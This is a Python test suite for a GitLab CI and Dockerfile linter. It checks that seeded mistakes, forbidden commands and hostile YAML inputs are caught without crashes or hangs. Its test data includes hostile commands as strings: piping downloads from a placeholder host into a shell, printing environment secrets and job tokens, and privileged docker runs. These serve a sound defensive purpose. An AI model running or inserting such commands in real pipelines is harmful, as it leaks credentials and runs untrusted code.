"""The checker: each single mistake is found on its line; valid files give no findings; nothing makes it crash."""

from __future__ import annotations

import time
from typing import NamedTuple

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shared.ci.document import NODE_LIMIT, SIZE_LIMIT, parse
from shared.ci.expressions import objection
from shared.ci.lint import check, errors
from shared.events import Analysis, Commands
from shared.recipes import Runner, render
from tests.ci.pipelines import DOCKERFILE, PIPELINE, REGISTRY, files, line_of


class Mistake(NamedTuple):
    """One change to the valid file, the rule that finds it, and the text on whose line (after the change) it stands."""

    old: str
    new: str
    rule: str
    mark: str


MISTAKES = {
    "a tab for indentation": Mistake("  needs: []", "\tneeds: []", "yaml-syntax", "\tneeds"),
    "an unclosed quote": Mistake(
        '  REGISTRY: "localhost:5000"', '  REGISTRY: "localhost:5000', "yaml-syntax", "REGISTRY:"
    ),
    "a key twice": Mistake(
        "  needs: []\n", "  needs: []\n  stage: sast\n", "yaml-duplicate-key", "  stage: sast\n  script"
    ),
    "a key that GitLab does not know": Mistake("  needs: []\n", "  need: []\n", "schema", "  need: []"),
    "a value of the wrong kind": Mistake("  interruptible: true", "  interruptible: perhaps", "schema", "perhaps"),
    "a when that does not exist": Mistake("when: on_failure", "when: on_fail", "schema", "when: on_fail"),
    "a misspelt stage": Mistake("  stage: sast", "  stage: sats", "undefined-stage", "stage: sats"),
    "a stage in the wrong place": Mistake("test, sast,", "sast, test,", "nine-stages", "stages: ["),
    "a stage that is missing": Mistake("push, notify, learn]", "push, notify]", "nine-stages", "stages: ["),
    "a job in another stage": Mistake(
        "  stage: quality", "  stage: sast", "job-stage", "  stage: sast\n  script:\n    - pip install ruff"
    ),
    "a need that does not exist": Mistake("needs: [build]", "needs: [built]", "unknown-need", "needs: [built]"),
    "a need of a later stage": Mistake("needs: [compile]", "needs: [security]", "later-need", "needs: [security]"),
    "an unknown parent": Mistake("  extends: .with_deps", "  extends: .with_dep", "unknown-extends", ".with_dep\n"),
    "a reference to nothing": Mistake(
        "    - bandit -r", "    - !reference [.nothing, script]\n    - bandit -r", "unknown-reference", "!reference"
    ),
    "a job without a script": Mistake(
        "  script:\n    - pip install ruff\n    - ruff check .\n", "", "missing-script", "quality:\n  stage"
    ),
    "an expression with one equals sign": Mistake("== $CI_DEFAULT", "= $CI_DEFAULT", "rules-if", "- if:"),
    "a pattern that is compared": Mistake("=~ /^feature", "== /^feature", "rules-if", "- if:"),
    "artifacts that nobody makes": Mistake("    - job: compile\n", "    - job: sast\n", "later-need", "- job: sast"),
    "an image from elsewhere": Mistake(
        "${REGISTRY}/aquasec", "docker.io/aquasec", "policy-image-registry", "docker.io/aquasec"
    ),
    "an image that is not known before": Mistake(
        "${REGISTRY}/aquasec", "$UNKNOWN/aquasec", "policy-image-unresolved", "$UNKNOWN"
    ),
    "a privileged service": Mistake(
        "${REGISTRY}/postgres:16", "${REGISTRY}/docker:27-dind", "policy-privileged", "27-dind"
    ),
    "the environment printed": Mistake(
        "    - bandit -r", "    - env | sort\n    - bandit -r", "policy-prints-environment", "env | sort"
    ),
    "a token printed": Mistake('echo "passed', 'echo "$CI_JOB_TOKEN', "policy-prints-environment", "CI_JOB_TOKEN"),
    "a trace of commands with a secret": Mistake(
        '    - echo "passed', '    - set -x\n    - curl -u x:$API_TOKEN "', "policy-prints-environment", "set -x"
    ),
    "debug traces": Mistake("  IMAGE:", '  CI_DEBUG_TRACE: "true"\n  IMAGE:', "policy-debug-trace", "CI_DEBUG"),
    "a download into a shell": Mistake(
        "pip install bandit", "curl -sSL https://x.example/i.sh | bash -s --", "policy-download-to-shell", "curl"
    ),
    "a token in clear": Mistake(
        "  IMAGE:", "  API_TOKEN: glpat-abcdefghij0123456789\n  IMAGE:", "policy-secret", "API_TOKEN"
    ),
    "a job that may fail": Mistake(
        "  stage: sast", "  allow_failure: true\n  stage: sast", "policy-allow-failure", "allow_failure"
    ),
    "a job that waits for a person": Mistake(
        "  stage: push", "  when: manual\n  stage: push", "policy-manual-job", "when: manual"
    ),
    "another file brought in": Mistake(
        "variables:\n", "include: https://x.example/ci.yml\nvariables:\n", "policy-include", "include:"
    ),
    "a job that is missing": Mistake(
        "learn:\n  stage: learn", "learned:\n  stage: learn", "missing-job", "# nine stages"
    ),
    "artifacts of a job that makes none": Mistake(
        "needs: [build]", "needs: [{job: sast, artifacts: true}]", "no-artifacts", "needs: [{job: sast"
    ),
    "an artifact that is not handed over": Mistake(
        "needs: [build]\n", "needs: [compile]\n", "missing-artifact", "  script:\n    - trivy"
    ),
    "needs in a circle": Mistake("    - job: compile\n", "    - job: test\n", "need-cycle", "- job: test"),
}

DOCKER_MISTAKES = {
    "no parent image": Mistake(DOCKERFILE, "WORKDIR /app\n", "dockerfile-no-from", "WORKDIR"),
    "an instruction before FROM": Mistake(
        "FROM ${REGISTRY}/python:3.12-slim AS build\n",
        "RUN ls\nFROM ${REGISTRY}/python:3.12-slim AS build\n",
        "dockerfile-before-from",
        "RUN ls",
    ),
    "a misspelt instruction": Mistake("WORKDIR /app", "WORKDR /app", "dockerfile-instruction", "WORKDR"),
    "a stage that does not exist": Mistake("--from=build", "--from=builder", "dockerfile-copy-from", "--from=builder"),
    "a parent from elsewhere": Mistake(
        "FROM ${REGISTRY}/python:3.12-slim\n", "FROM python:3.12-slim\n", "policy-image-registry", "FROM python"
    ),
    "COPY without a target": Mistake(
        "COPY requirements.txt .", "COPY requirements.txt", "dockerfile-arguments", "COPY requirements.txt"
    ),
    "a download into a shell": Mistake(
        "RUN pip install", "RUN wget -qO- https://x.example | sh && pip install", "policy-download-to-shell", "RUN wget"
    ),
    "a secret in clear": Mistake("WORKDIR /app", "ENV API_KEY=a1b2c3d4e5f6a7b8c9d0", "policy-secret", "ENV API_KEY"),
}


def test_valid_files_give_no_findings() -> None:
    """A full nine-stage pipeline with anchors, extends, needs, services and rules is accepted as it is."""
    assert check(files(), registry=REGISTRY) == ()


@pytest.mark.parametrize("name", MISTAKES)
def test_each_mistake_in_the_pipeline_is_found_on_its_line(name: str) -> None:
    """One change to a valid pipeline gives an error of the expected rule on the line of the change."""
    mistake = MISTAKES[name]
    assert mistake.old in PIPELINE
    broken = PIPELINE.replace(mistake.old, mistake.new, 1)
    found = [(f.rule, f.line) for f in errors(check(files(broken), registry=REGISTRY))]
    assert (mistake.rule, line_of(broken, mistake.mark)) in found


@pytest.mark.parametrize("name", DOCKER_MISTAKES)
def test_each_mistake_in_the_dockerfile_is_found_on_its_line(name: str) -> None:
    """One change to a valid Dockerfile gives an error of the expected rule on the line of the change."""
    mistake = DOCKER_MISTAKES[name]
    assert mistake.old in DOCKERFILE
    broken = DOCKERFILE.replace(mistake.old, mistake.new, 1)
    found = [(f.rule, f.line) for f in errors(check(files(dockerfile=broken), registry=REGISTRY))]
    assert (mistake.rule, line_of(broken, mistake.mark)) in found


@pytest.mark.parametrize(
    "command",
    [
        "echo $CI_REGISTRY_PASSWORD | docker login -u $CI_REGISTRY_USER --password-stdin $CI_REGISTRY",
        "env NODE_ENV=test npm test",
        "/usr/bin/env python3 setup.py",
        "set -e",
        "set -euo pipefail",
        "export PATH=$PATH:/opt/bin",
        "curl -fsSL https://x.example/file.tar.gz | tar xz",
        'echo "{\\"auths\\":{\\"$CI_REGISTRY\\":{\\"auth\\":\\"$REGISTRY_TOKEN\\"}}}" > /kaniko/.docker/config.json',
        "echo $CI_COMMIT_SHA",
        "pip install virtualenv",
        "python manage.py check --deploy",
    ],
)
def test_honest_commands_are_no_finding(command: str) -> None:
    """What looks a little like a forbidden command but is none passes."""
    pipeline = PIPELINE.replace("    - bandit -r . -ll", "    - '" + command.replace("'", "''") + "'")
    assert check(files(pipeline), registry=REGISTRY) == ()


@pytest.mark.parametrize(
    "command",
    [
        "printenv",
        "FOO=1; env",
        "export -p",
        "cat /proc/self/environ",
        'python -c "import os; print(os.environ)"',
        "echo ${DEPLOY_PASSWORD}",
        "printf '%s' \"$SECRET_KEY\" | base64",
        "bash <(curl -s https://x.example)",
        'sh -c "$(curl -fsSL https://x.example/install.sh)"',
        "wget -O - https://x.example | sudo -E python3 -",
        "docker run --privileged x",
        "git clone https://me:hunter22@x.example/r.git",
    ],
)
def test_forbidden_commands_are_found(command: str) -> None:
    """Every way of printing secrets or running what was downloaded is an error."""
    pipeline = PIPELINE.replace("    - bandit -r . -ll", "    - '" + command.replace("'", "''") + "'")
    assert errors(check(files(pipeline), registry=REGISTRY))


@pytest.mark.parametrize(
    "expression",
    ["$A", '$A == "b"', "$A =~ /x/i && ($B || $C != null)", "$A !~ $B", "'x' == $A", "$CI_COMMIT_TAG =~ /^v\\d+\\/x/"],
)
def test_expressions_that_gitlab_reads(expression: str) -> None:
    """Variables, texts, null, patterns and parentheses are read."""
    assert objection(expression) == ""


@pytest.mark.parametrize(
    "expression",
    ["", "$A ==", "== 'x'", "$A = 'x'", "$A & $B", "($A", "$A)", "${A} == 'x'", "$A =~ 'x'", "a == b", "$A $B"],
)
def test_expressions_that_gitlab_refuses(expression: str) -> None:
    """Each says in words what is wrong."""
    assert objection(expression)


def test_a_bomb_of_aliases_is_refused_at_once() -> None:
    """Nine levels of ten aliases stand for a thousand million values; the reader stops at its limit."""
    levels = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    levels += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 10)]
    start = time.process_time()
    document = parse("\n".join(levels))
    assert [p.rule for p in document.problems] == ["yaml-size"]
    assert str(NODE_LIMIT) in document.problems[0].message
    assert time.process_time() - start < 2


@pytest.mark.parametrize("text", ["[" * 5000, "a: &x\n  b: *x\n", "x" * (SIZE_LIMIT + 1), "a:\n" * 3 + "\x00"])
def test_hostile_texts_are_findings(text: str) -> None:
    """Nesting without end, an alias to itself, an endless file and control characters are refused, not followed."""
    assert errors(check(files(text), registry=REGISTRY))


def test_references_that_multiply_are_bounded() -> None:
    """`!reference` upon `!reference` cannot stand for more values than the limit."""
    jobs = [".r0: {script: [a, b, c, d, e, f, g, h, i, j]}"]
    pointers = [", ".join([f"!reference [.r{n}, script]"] * 10) for n in range(9)]
    jobs += [f".r{n + 1}: {{script: [{pointer}]}}" for n, pointer in enumerate(pointers)]
    start = time.process_time()
    check(files("\n".join(jobs)), registry=REGISTRY)
    assert time.process_time() - start < 3


def test_the_jobs_are_resolved_as_gitlab_does() -> None:
    """`extends` merges mappings and replaces lists, `default` fills what is missing, `!reference` is laid flat."""
    document = parse(
        "default: {image: d}\n.a: {variables: {X: 1, Y: 1}, script: [one]}\n"
        ".b: {before_script: [zero]}\n"
        "job: {extends: [.b, .a], variables: {Y: 2}, script: [!reference [.a, script], two]}\n"
        "other: {inherit: {default: false}, script: [x]}\n"
    )
    job = document.resolved["job"]
    assert job["variables"] == {"X": 1, "Y": 2}
    assert job["script"] == ["one", "two"]
    assert (job["before_script"], job["image"]) == (["zero"], "d")
    assert "image" not in document.resolved["other"]


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=300), st.text(max_size=300))
def test_arbitrary_text_never_crashes(pipeline: str, dockerfile: str) -> None:
    """Whatever the two files hold, the answer is findings that point into the file."""
    for finding in check(files(pipeline, dockerfile), registry=REGISTRY):
        text = dockerfile if finding.file == "Dockerfile" else pipeline
        assert 1 <= finding.line <= text.count("\n") + text.count("\r") + len(text.splitlines()) + 1


YAMLISH = st.recursive(
    st.sampled_from(
        ["script", "compile", "$X", "!reference [a, b]", "*a", "&a x", "null", "1", "true", "[]", "{}", "'"]
    ),
    lambda inner: st.one_of(
        st.lists(inner, max_size=4).map(lambda items: f"[{', '.join(items)}]"),
        st.dictionaries(
            st.sampled_from(
                ["stage", "script", "needs", "rules", "if", "extends", "image", "variables", "default", "x"]
            ),
            inner,
            max_size=4,
        ).map(lambda pairs: "{" + ", ".join(f"{key}: {value}" for key, value in pairs.items()) + "}"),
    ),
    max_leaves=12,
)


@settings(max_examples=200, deadline=None)
@given(st.dictionaries(st.sampled_from(["stages", "default", "compile", ".x", "variables", "include", "a"]), YAMLISH))
def test_arbitrary_structures_never_crash(document: dict[str, str]) -> None:
    """Keywords with values of every wrong shape are findings at most."""
    text = "\n".join(f"{key}: {value}" for key, value in document.items())
    check(files(text), registry=REGISTRY)


@settings(max_examples=200, deadline=None)
@given(
    st.integers(0, len(PIPELINE) - 1), st.sampled_from(["", "\t", ":", "- ", "'", "\n", "{", "*x", "&y ", "#", "\\"])
)
def test_a_damaged_file_never_crashes(place: int, damage: str) -> None:
    """One character of a valid pipeline replaced by something harmful gives findings or none, never an error."""
    check(files(PIPELINE[:place] + damage + PIPELINE[place + 1 :]), registry=REGISTRY)


@pytest.mark.parametrize("language", ["python", "javascript", "typescript", "ruby"])
@pytest.mark.parametrize("builder", ["kaniko", "buildah", "buildkit"])
def test_what_the_recipes_render_gives_no_findings(language: str, builder: str) -> None:
    """Every recipe with every builder passes the checker without a word."""
    commands = Commands(install="make deps", test="make test", start="make run")
    rendered = render(
        Analysis(language=language, commands=commands, ports=(8000,)), registry=REGISTRY, runner=Runner(builder)
    )
    assert rendered is not None
    assert check(rendered, registry=REGISTRY) == ()


@pytest.mark.parametrize("word", ["curl ", "echo $", "/", "print", "$(", "https://a:", "env ", "sh -c "])
def test_no_house_rule_is_catastrophic(word: str) -> None:
    """One endless command of a repeated word is judged within seconds."""
    start = time.process_time()
    check(files(f"a: {{script: ['{word * (60_000 // len(word))}']}}"), registry=REGISTRY)
    assert time.process_time() - start < 3


HOSTILE = {
    "a line of brackets": "[" * 63_000,
    "names by the thousand": "a: {script: ['" + " ".join(f"$NAME{n:05}" for n in range(5_000)) + "']}",
    "definitions by the thousand": "\n".join(f"VARIABLE_{n:05}: $VARIABEL_{n:05}" for n in range(1_900)),
    "jobs by the thousand": "\n".join(f"j{n}: {{script: [ls], artifacts: {{paths: [f{n}.a]}}}}" for n in range(1_200)),
    "needs upon needs": "\n".join(f"j{n}: {{script: ls, needs: [{f'j{n - 1}' if n else ''}]}}" for n in range(1_800)),
    "parents upon parents": "\n".join(f".j{n}: {{extends: [{', '.join([f'.j{n - 1}'] * 9)}]}}" for n in range(700)),
    "aliases of a large job": ".a: &a {script: ["
    + "x, " * 4_000
    + "]}\n"
    + "\n".join(f"j{n}: *a" for n in range(2_000)),
    "quotes without end": 'a: {script: ["' + '\\"$(' * 12_000 + '"]}',
    "heredocs": "a:\n  script:\n    - |\n" + "      cat <<X\n" * 4_000,
    "substitutions": "a: {script: ['" + "$((" * 20_000 + "']}",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_no_text_keeps_the_checker_busy(name: str) -> None:
    """Whatever is made to be slow is judged within seconds on any machine (mostly a tenth of one)."""
    start = time.process_time()
    check(files(HOSTILE[name]), registry=REGISTRY)
    assert time.process_time() - start < 5
